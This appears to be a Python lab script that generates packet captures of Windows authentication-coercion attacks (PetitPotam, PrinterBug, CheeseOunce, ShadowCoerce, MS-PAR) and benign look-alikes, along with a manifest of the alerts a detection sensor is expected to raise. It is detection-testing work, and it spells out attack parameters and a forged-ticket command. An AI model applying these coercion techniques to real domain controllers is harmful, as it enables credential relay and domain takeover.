"""The coercion family's captures: one technique per capture, written to pcaps/family/ with
their ground truth in pcaps/family/manifest.json.

  family_scenarios.py --out pcaps/family [NAME ...]      (run by pcaps/lab/build-family)

Servers: Samba serves spoolss, eventlog and FssagentRpc (smb.conf below adds printing and the
fss agent to the lab's); MS-EFSR and MS-PAR are served by family_rpc_server.py (its own DCE/RPC
server, NTLM-authenticated binds included, behind impacket's SMB server, SMB 2.1 at most, or on
ncacn_ip_tcp), and \\PIPE\\efsrpc inside SMB3 encryption by the same server behind Samba's smbd
(server "samba+efsrpc": smbd forwards the pipe to it). Attacks come from
family_client.py in "attacker"; benign look-alikes from Samba's rpcclient and family_client.py
in "client". Each manifest entry says which alerts the capture must raise (``expected_alerts``:
rule ids of sensor/rules/*.xql and of the coercion correlator) and which it must not.
"""
from __future__ import annotations

import argparse
import json
import os
import subprocess
import sys
import time
from dataclasses import dataclass, field
from pathlib import Path

import groundtruth
import scenarios
from scenarios import (ATTACKER_V4, CLIENT_V4, DC_V4, DOMAIN, PASSWORD, USER, Capture,
                       HttpListener, Samba, SmbListener, in_ns, wait_listening)

LAB = Path(__file__).resolve().parent
REPO = LAB.parent.parent
TCP_PORT = 49670             # family_rpc_server.py's ncacn_ip_tcp endpoint
# The lab's smb.conf, with the spooler's printers loaded and the fss agent forked on demand.
FAMILY_SMB_CONF = scenarios.SMB_CONF.replace("load printers = no", "load printers = yes").replace(
    "printcap name = /dev/null", "printcap name = /dev/null\n  rpc_daemon:fssd = fork\n  rpc_server:fssagentrpc = external")
RULE = {   # technique -> the rarity rule its coercion calls raise (sensor/rules/)
    "efsr": "coercion-rare-efsr-call", "efsr-efsrpc": "coercion-rare-efsr-call",
    "rprn": "coercion-rare-rprn-call", "even": "coercion-rare-even-call", "fsrvp": "coercion-rare-fsrvp-call",
    "par": "coercion-rare-par-call", "dfsnm": "dfscoerce-rare-dfsnm-other-call",
}
CONFIRMED = "coercion-confirmed"
PROBABLE = "probable-coercion"


@dataclass
class FamilyScenario:
    name: str
    description: str
    client: list[str] = field(default_factory=list)    # family_client.py options (attack, or benign in "client")
    rpcclient: str = ""                                # a benign rpcclient command list run in "client"
    server: str = "samba"                              # "samba", "impacket" or "samba+efsrpc" (FamilyRpcServer)
    encrypt: str = "off"
    back_auth: str = ""                                # "smb" or "http"
    benign: bool = False
    expected_alerts: list[str] = field(default_factory=list)
    samba_client: bool = False                         # samba_bigendian_client.py in "attacker" instead
    config: dict = field(default_factory=dict)         # the sensor configuration (TOML as a dict) it is replayed with


def technique(sc: FamilyScenario) -> str:
    return sc.client[sc.client.index("--technique") + 1]


def attack(name, description, *client, server="samba", encrypt="off", back_auth=""):
    sc = FamilyScenario(name, description, list(client), server=server, encrypt=encrypt, back_auth=back_auth)
    if encrypt != "off":
        # Inside SMB3 encryption no call is decodable: no event, so no rule; the back-authentication
        # after an encrypted inbound session is probable coercion (technique unknown).
        sc.expected_alerts = [PROBABLE] if back_auth else []
    elif "privacy" in client:
        # sealed: the rule counts the call with the listener unknown; the back-authentication
        # is then probable coercion naming the technique (a sealed call cannot confirm L)
        sc.expected_alerts = [RULE[technique(sc)]] + ([PROBABLE] if back_auth else [])
    else:
        sc.expected_alerts = [RULE[technique(sc)]] + ([CONFIRMED] if back_auth else [])
    return sc


SCENARIOS = [
    attack("efsr-lsarpc-smb21", "PetitPotam: every MS-EFSR path call (0, 4-9, 12, 13, 15, 16, 18, 19, 21) on "
           "\\PIPE\\lsarpc (c681d488), SMB 2.1, impacket server", "--technique", "efsr", "--dialect", "2.1",
           server="impacket"),
    attack("efsr-netlogon-smb21", "PetitPotam on \\PIPE\\netlogon (c681d488, as Coercer tries every pipe): "
           "EfsRpcOpenFileRaw, EfsRpcEncryptFileSrv, SMB 2.1, impacket server", "--technique", "efsr", "--pipe",
           "netlogon", "--opnums", "0,4", "--dialect", "2.1", server="impacket"),
    attack("efsr-efsrpc-smb21", "PetitPotam on \\PIPE\\efsrpc (df1941c5): EfsRpcOpenFileRaw, EfsRpcEncryptFileSrv, "
           "SMB 2.1, impacket server", "--technique", "efsr-efsrpc", "--opnums", "0,4", "--dialect", "2.1",
           server="impacket"),
    attack("efsr-tcp", "PetitPotam over ncacn_ip_tcp (port 49670, c681d488): EfsRpcOpenFileRaw, "
           "EfsRpcEncryptFileSrv, impacket DCERPCServer", "--technique", "efsr", "--transport", "tcp",
           "--port", str(TCP_PORT), "--opnums", "0,4", server="impacket"),
    attack("efsr-backauth-smb", "PetitPotam EfsRpcEncryptFileSrv on lsarpc, SMB 2.1, then DC01$ authenticates "
           "back over SMB (NTLMSSP) to 10.0.0.66", "--technique", "efsr", "--opnums", "4", "--dialect", "2.1",
           server="impacket", back_auth="smb"),
    attack("efsr-backauth-http", "PetitPotam EfsRpcEncryptFileSrv naming a WebDAV listener "
           "(\\\\10.0.0.66@8080\\x\\y), then DC01$ authenticates back with HTTP NTLM (PROPFIND)",
           "--technique", "efsr", "--opnums", "4", "--dialect", "2.1", "--path", "\\\\10.0.0.66@8080\\x\\y",
           server="impacket", back_auth="http"),
    attack("efsr-backauth-kerberos", "PetitPotam EfsRpcEncryptFileSrv naming \\\\attacker.lab.example\\share\\f, "
           "SMB 2.1, then DC01 authenticates back with Kerberos: an AP-REQ for cifs/attacker.lab.example in SMB "
           "SESSION_SETUP to 10.0.0.66 (impacket smbclient.py with a ticket from ticketer.py)",
           "--technique", "efsr", "--opnums", "4", "--dialect", "2.1", "--path", "\\\\attacker.lab.example\\share\\f",
           server="impacket", back_auth="kerberos"),
    attack("rprn-smb21", "PrinterBug: RpcOpenPrinter(\\\\10.0.0.10), then RpcRemoteFindFirstPrinterChangeNotificationEx "
           "(65) and ...Notification (62) naming \\\\10.0.0.66, SMB 2.1, Samba spoolss",
           "--technique", "rprn", "--opnums", "65,62", "--dialect", "2.1"),
    attack("rprn-smb3-encrypted", "PrinterBug (1, 65) with impacket's default negotiation against smb encrypt = "
           "desired: SMB 3.1.1 encrypted", "--technique", "rprn", "--dialect", "default", encrypt="desired"),
    attack("rprn-backauth-smb", "PrinterBug (1, 65), SMB 2.1, then DC01$ authenticates back over SMB to 10.0.0.66",
           "--technique", "rprn", "--dialect", "2.1", back_auth="smb"),
    attack("rprn-rpc-privacy-backauth", "PrinterBug (1, 65) with RPC NTLM auth at PKT_PRIVACY (sealed stubs, "
           "as NetExec's coerce_plus binds) over clear SMB 2.1, then DC01$ authenticates back over SMB",
           "--technique", "rprn", "--dialect", "2.1", "--auth-level", "privacy", back_auth="smb"),
    attack("even-smb21", "CheeseOunce: ElfrOpenBELW(\\??\\UNC\\10.0.0.66\\share\\x.evt), SMB 2.1, Samba eventlog",
           "--technique", "even", "--dialect", "2.1"),
    attack("even-smb3-encrypted", "CheeseOunce ElfrOpenBELW inside SMB 3.1.1 encryption", "--technique", "even",
           "--dialect", "default", encrypt="desired"),
    attack("even-backauth-smb", "CheeseOunce ElfrOpenBELW, SMB 2.1, then DC01$ authenticates back over SMB",
           "--technique", "even", "--dialect", "2.1", back_auth="smb"),
    attack("fsrvp-smb21", "ShadowCoerce: IsPathSupported, IsPathShadowCopied (\\\\10.0.0.66\\share), SMB 2.1, "
           "Samba FssagentRpc", "--technique", "fsrvp", "--dialect", "2.1"),
    attack("fsrvp-smb3-encrypted", "ShadowCoerce inside SMB 3.1.1 encryption", "--technique", "fsrvp",
           "--dialect", "default", encrypt="desired"),
    attack("fsrvp-backauth-smb", "ShadowCoerce IsPathSupported, SMB 2.1, then DC01$ authenticates back over SMB",
           "--technique", "fsrvp", "--opnums", "8", "--dialect", "2.1", back_auth="smb"),
    attack("par-tcp", "MS-PAR RpcAsyncOpenPrinter(\\\\10.0.0.66\\printer) over ncacn_ip_tcp (port 49670), "
           "impacket DCERPCServer", "--technique", "par", "--transport", "tcp", "--port", str(TCP_PORT),
           server="impacket"),
    attack("par-backauth-smb", "MS-PAR RpcAsyncOpenPrinter over ncacn_ip_tcp, then DC01$ authenticates back over SMB",
           "--technique", "par", "--transport", "tcp", "--port", str(TCP_PORT), server="impacket", back_auth="smb"),
    attack("efsr-tcp-rpc-privacy", "PetitPotam over ncacn_ip_tcp (port 49670, c681d488) with RPC NTLM auth at "
           "PKT_PRIVACY (sealed stubs, as Coercer and NetExec bind): EfsRpcOpenFileRaw, EfsRpcEncryptFileSrv, "
           "family_rpc_server.py unsealing them", "--technique", "efsr", "--transport", "tcp", "--port", str(TCP_PORT),
           "--opnums", "0,4", "--auth-level", "privacy", server="impacket"),
    attack("efsr-tcp-rpc-privacy-backauth", "PetitPotam EfsRpcEncryptFileSrv over ncacn_ip_tcp, sealed (PKT_PRIVACY), "
           "then DC01$ authenticates back over SMB to 10.0.0.66", "--technique", "efsr", "--transport", "tcp",
           "--port", str(TCP_PORT), "--opnums", "4", "--auth-level", "privacy", server="impacket", back_auth="smb"),
    attack("efsr-lsarpc-rpc-privacy-backauth", "PetitPotam EfsRpcOpenFileRaw, EfsRpcEncryptFileSrv on \\PIPE\\lsarpc "
           "over clear SMB 2.1, sealed (PKT_PRIVACY), then DC01$ authenticates back over SMB",
           "--technique", "efsr", "--opnums", "0,4", "--dialect", "2.1", "--auth-level", "privacy",
           server="impacket", back_auth="smb"),
    attack("efsr-efsrpc-smb3-encrypted", "PetitPotam EfsRpcOpenFileRaw, EfsRpcEncryptFileSrv on \\PIPE\\efsrpc "
           "(df1941c5) with impacket's default negotiation against Samba's smbd (smb encrypt = desired): "
           "SMB 3.1.1 encrypted; smbd forwards the pipe to family_rpc_server.py", "--technique", "efsr-efsrpc",
           "--opnums", "0,4", "--dialect", "default", server="samba+efsrpc", encrypt="desired"),
    attack("efsr-efsrpc-smb3-encrypted-backauth", "PetitPotam EfsRpcEncryptFileSrv on \\PIPE\\efsrpc inside "
           "SMB 3.1.1 encryption (Samba's smbd forwarding the pipe), then DC01$ authenticates back over SMB",
           "--technique", "efsr-efsrpc", "--opnums", "4", "--dialect", "default", server="samba+efsrpc",
           encrypt="desired", back_auth="smb"),
    FamilyScenario("efsr-efsrpc-smb3-encrypted-fingerprint", "PetitPotam EfsRpcEncryptFileSrv(\\\\10.0.0.66\\share\\x.txt) "
                   "first on \\PIPE\\efsrpc inside SMB 3.1.1 encryption (Samba's smbd forwarding the pipe): a 60-byte "
                   "stub answered with a status only, the transform sizes of impacket's netdfs root call",
                   ["--technique", "efsr-efsrpc", "--opnums", "4", "--dialect", "default", "--path",
                    "\\\\10.0.0.66\\share\\x.txt"], server="samba+efsrpc", encrypt="desired",
                   # efsrpc is a six-letter pipe like netdfs: the DFSCoerce size fingerprint matches
                   expected_alerts=["probable-dfscoerce-encrypted"]),
    attack("par-tcp-rpc-privacy", "MS-PAR RpcAsyncOpenPrinter(\\\\10.0.0.66\\printer) over ncacn_ip_tcp with RPC "
           "NTLM auth at PKT_PRIVACY (real MS-PAR servers require it)", "--technique", "par", "--transport", "tcp",
           "--port", str(TCP_PORT), "--auth-level", "privacy", server="impacket"),
    attack("par-tcp-rpc-privacy-backauth", "MS-PAR RpcAsyncOpenPrinter over ncacn_ip_tcp, sealed (PKT_PRIVACY), then "
           "DC01$ authenticates back over SMB", "--technique", "par", "--transport", "tcp", "--port", str(TCP_PORT),
           "--auth-level", "privacy", server="impacket", back_auth="smb"),
    attack("dfsnm-remove2-idl", "NetrDfsRemove2 (20) marshalled by hand from the IDL: DcName as [in, string] "
           "(MIDL syntax), then DcName NULL as [unique] (the spec text's 'MAY be NULL'); SMB 2.1, Samba netdfs",
           "--technique", "dfsnm", "--dialect", "2.1"),
    FamilyScenario("rprn-bigendian-samba-client", "PrinterBug from Samba's DCE/RPC client marshalling big endian "
                   "(binding option bigendian, drep[0] = 0x00): RpcOpenPrinterEx with a client-info union, "
                   "RpcRemoteFindFirstPrinterChangeNotificationEx(\\\\10.0.0.66) with notify options (nested "
                   "arrays), RpcEnumPrinters; SMB 2.1, Samba spoolss", samba_client=True,
                   expected_alerts=["coercion-rare-rprn-call"]),
    FamilyScenario("benign-printing", "print client traffic: rpcclient enumprinters, enumports, getprinter-less "
                   "server queries; impacket RpcOpenPrinter + RpcRemoteFindFirstPrinterChangeNotificationEx naming "
                   "the client's own address (\\\\10.0.0.5), as a print client registering for its own notifications; "
                   "replayed with the lab's print server (10.0.0.10, Samba spoolss) declared in print_servers "
                   "(\"config\"): a print server receives its clients' registrations",
                   ["--technique", "rprn", "--dialect", "2.1", "--listener", CLIENT_V4],
                   rpcclient="enumprinters; enumports 1; enumdrivers 1", benign=True,
                   # The same call as PrinterBug naming the attacker's own address: the wire cannot
                   # tell them apart; the server's role does. Replayed with the lab's print server
                   # declared, as a deployment declares its own (without it: rare the first days).
                   config={"address_groups": {"print_servers": [DC_V4]}}),
    FamilyScenario("benign-eventlog", "event log reads and a clear: rpcclient eventlog_numrecord, eventlog_oldestrecord, "
                   "eventlog_readlog, eventlog_loginfo on Application", rpcclient="eventlog_numrecord Application; "
                   "eventlog_oldestrecord Application; eventlog_readlog Application; eventlog_loginfo Application",
                   benign=True),
    FamilyScenario("benign-fss", "FSRVP administration on the server's own share: rpcclient fss_get_sup_version, "
                   "fss_is_path_sup share, fss_has_shadow_copy share", rpcclient="fss_get_sup_version; "
                   "fss_is_path_sup share; fss_has_shadow_copy share", benign=True),
    FamilyScenario("benign-efs-own-paths", "EFS on the file server's own paths: EfsRpcEncryptFileSrv, "
                   "EfsRpcQueryUsersOnFile on C:\\share\\file.txt over lsarpc, SMB 2.1, impacket server",
                   ["--technique", "efsr", "--opnums", "4,6", "--dialect", "2.1", "--listener", DC_V4,
                    "--path", "C:\\share\\file.txt"], server="impacket", benign=True),
]


KERBEROS_LISTENER = "attacker.lab.example"     # the listener's DNS name: the SPN cifs/<it>
KERBEROS_REALM = "LAB.EXAMPLE"


class KerberosSmbListener(SmbListener):
    """The coerced DC authenticating back with Kerberos: impacket's smbclient.py in "dc" with a
    service ticket for cifs/attacker.lab.example (made offline by impacket's ticketer.py: the lab
    has no KDC), so its SESSION_SETUP carries a real AP-REQ. The listener, impacket smbserver,
    cannot decrypt it; the request is what counts."""

    def __init__(self, work: Path):
        super().__init__(work)
        bin_dir = Path(sys.executable).parent
        self.ccache = work / "DC01$.ccache"
        subprocess.run([sys.executable, str(bin_dir / "ticketer.py"), "-nthash", "31d6cfe0d16ae931b73c59d7e0c089c0",
                        "-domain-sid", "S-1-5-21-1-2-3", "-domain", KERBEROS_REALM,
                        "-spn", f"cifs/{KERBEROS_LISTENER}", "DC01$"], cwd=work, check=True, capture_output=True)
        self.smbclient = bin_dir / "smbclient.py"

    def authenticate_back(self) -> None:
        subprocess.run(in_ns("dc", sys.executable, str(self.smbclient), "-k", "-no-pass", "-target-ip", ATTACKER_V4,
                             f"{KERBEROS_REALM}/DC01$@{KERBEROS_LISTENER}"),
                       input="exit\n", text=True, capture_output=True, timeout=30,
                       env={**os.environ, "KRB5CCNAME": str(self.ccache)})


class FamilyRpcServer:
    """family_rpc_server.py in "dc": in place of Samba with impacket's SMB server, or beside
    Samba's smbd, serving \\PIPE\\efsrpc at ``npa_dir``/np/efsrpc (smbd's ncalrpc dir)."""

    def __init__(self, work: Path, npa_dir: Path | None = None):
        self.log = open(work / "family-rpc-server.log", "a")
        front = ["--npa-dir", str(npa_dir)] if npa_dir else ["--smb", "--share", str(work)]
        self.proc = subprocess.Popen(in_ns("dc", sys.executable, str(LAB / "family_rpc_server.py"),
                                           "--tcp-port", str(TCP_PORT), *front),
                                     stdout=self.log, stderr=self.log, env={**os.environ, "PYTHONPATH": str(LAB)})
        wait_listening("dc", TCP_PORT)
        if npa_dir:
            socket = npa_dir / "np" / "efsrpc"
            deadline = time.time() + 15
            while not socket.is_socket():
                if time.time() > deadline:
                    raise RuntimeError(f"family_rpc_server.py made no {socket}")
                time.sleep(0.1)
        else:
            wait_listening("dc", 445)

    def stop(self) -> None:
        self.proc.terminate()
        self.proc.wait(10)


def run_client(sc: FamilyScenario, back_auth, ns: str) -> list[dict]:
    opts = list(sc.client)
    if "--listener" not in opts:
        opts += ["--listener", ATTACKER_V4]
    cmd = [sys.executable, str(LAB / "family_client.py"), "--target", DC_V4, *opts]
    env = {**os.environ, "PYTHONPATH": f"{LAB}:{REPO}"}
    proc = subprocess.Popen(in_ns(ns, *cmd), stdout=subprocess.PIPE, text=True, env=env)
    return scenarios.read_calls(proc, sc.name, back_auth)


SERVER_NAMES = {   # the manifest's "server"
    "samba": "Samba 4.17 smbd",
    "impacket": "family_rpc_server.py (its DCE/RPC server, NTLM binds included, behind impacket's SMB server or on TCP)",
    "samba+efsrpc": "Samba 4.17 smbd forwarding \\PIPE\\efsrpc to family_rpc_server.py (named pipe auth socket)",
}


def agent_hostname(sc: FamilyScenario) -> str:
    """The server's name as the capture gives it: Samba's NTLMSSP CHALLENGE in SESSION_SETUP, or
    family_rpc_server.py's in an authenticated bind's ack over ncacn_ip_tcp; impacket's SMB
    server names itself at random ("" : not asserted)."""
    authenticated_tcp = "tcp" in sc.client and "--auth-level" in sc.client \
        and sc.client[sc.client.index("--auth-level") + 1] != "none"
    return "DC01" if sc.server != "impacket" or authenticated_tcp else ""


def run_samba_client(ns: str) -> list[dict]:
    """samba_bigendian_client.py under the system interpreter (python3-samba): what it sent."""
    run = subprocess.run(in_ns(ns, "/usr/bin/python3", str(LAB / "samba_bigendian_client.py"), "--target", DC_V4,
                               "--listener", ATTACKER_V4), capture_output=True, text=True, timeout=60, check=True)
    return [json.loads(line) for line in run.stdout.splitlines()]


def with_wire_endpoints(pcap: str, calls: list[dict]) -> list[dict]:
    """The Samba client does not report its ports: each call takes the next request tshark sees
    with its opnum from the attacker (in the order sent), then groundtruth.locate as usual."""
    wire = [w for w in groundtruth.observed_calls(pcap) if w["client_ip"] == ATTACKER_V4]
    placed = []
    for call in calls:
        hit = next(w for w in wire if w["opnum"] == call["opnum"])
        wire = wire[wire.index(hit) + 1:]
        placed.append({**call, "decodable": True, "sealed": False, "transport": "np", "pipe": "spoolss",
                       "dialect": "0x210", "client_ip": ATTACKER_V4, "client_port": hit["client_port"],
                       "server_ip": DC_V4, "server_port": hit["server_port"]})
    return placed


def run(sc: FamilyScenario, work: Path, out: Path, samba: Samba) -> dict:
    rpc_server = None
    if sc.server == "impacket":
        samba.stop()
        rpc_server = FamilyRpcServer(work)
    else:
        samba.start(sc.encrypt)
        if sc.server == "samba+efsrpc":
            rpc_server = FamilyRpcServer(work, npa_dir=samba.dir / "ncalrpc")
    back_auth = {"smb": SmbListener, "http": HttpListener, "kerberos": KerberosSmbListener}[sc.back_auth](work) \
        if sc.back_auth else None
    capture = Capture("dc", "eth0", out / f"{sc.name}.pcap", "tcp")
    calls: list[dict] = []
    try:
        if sc.rpcclient:
            subprocess.run(in_ns("client", "rpcclient", "-U", f"{DOMAIN}/{USER}%{PASSWORD}", DC_V4, "-c", sc.rpcclient),
                           capture_output=True, timeout=60)
        if sc.client:
            calls = run_client(sc, back_auth, "client" if sc.benign else "attacker")
        if sc.samba_client:
            calls = run_samba_client("attacker")
    finally:
        capture.stop()
        if back_auth:
            back_auth.stop()
        if rpc_server:
            rpc_server.stop()
    pcap = str(capture.path)
    if sc.samba_client:
        calls = with_wire_endpoints(pcap, calls)
    entry = {
        "description": sc.description,
        "made_by": f"pcaps/lab/build-family {sc.name}",
        "server": SERVER_NAMES[sc.server],
        "agent_hostname": agent_hostname(sc),
        "server_ip": DC_V4,
        "should_alert": not sc.benign,
        "expected_alerts": sc.expected_alerts,
        "encrypted": bool(calls and calls[0].get("smb_encrypted")) or sc.encrypt == "desired",
        "calls": [{k: c[k] for k in ("interface_uuid", "opnum", "function", "args", "decodable", "sealed", "transport",
                                     "pipe", "dialect", "client_ip", "client_port", "server_ip", "server_port", "ts",
                                     "frame")} for c in groundtruth.locate(pcap, calls)] if calls else [],
        "observed_requests": groundtruth.observed_calls(pcap) if sc.rpcclient else [],
    }
    if sc.config:
        entry["config"] = sc.config
    if sc.back_auth == "kerberos":
        entry["back_auth"] = groundtruth.kerberos_ap_requests(pcap)
    elif sc.back_auth:
        entry["back_auth"] = [a for a in groundtruth.ntlm_authentications(pcap)
                              if a["client_ip"] == DC_V4 and a["server_ip"] == ATTACKER_V4]
    return entry


def main() -> int:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--out", type=Path, default=REPO / "pcaps" / "family")
    p.add_argument("--work", type=Path, default=LAB / "work")
    p.add_argument("names", nargs="*")
    opts = p.parse_args()
    chosen = [s for s in SCENARIOS if not opts.names or s.name in opts.names]
    unknown = set(opts.names) - {s.name for s in SCENARIOS}
    if unknown:
        p.error(f"unknown scenarios: {', '.join(sorted(unknown))}")
    opts.out.mkdir(parents=True, exist_ok=True)
    opts.work.mkdir(parents=True, exist_ok=True)
    scenarios.SMB_CONF = FAMILY_SMB_CONF
    manifest_path = opts.out / "manifest.json"
    manifest = json.loads(manifest_path.read_text()) if manifest_path.exists() else {"captures": {}}
    samba = Samba(opts.work)
    try:
        for sc in chosen:
            started = time.time()
            manifest["captures"][f"{sc.name}.pcap"] = entry = run(sc, opts.work, opts.out, samba)
            print(f"{sc.name}: {len(entry['calls'])} calls, {time.time() - started:.1f}s", flush=True)
            manifest_path.write_text(json.dumps(manifest, indent=1, sort_keys=True) + "\n")
    finally:
        samba.stop()
    return 0


if __name__ == "__main__":
    sys.exit(main())
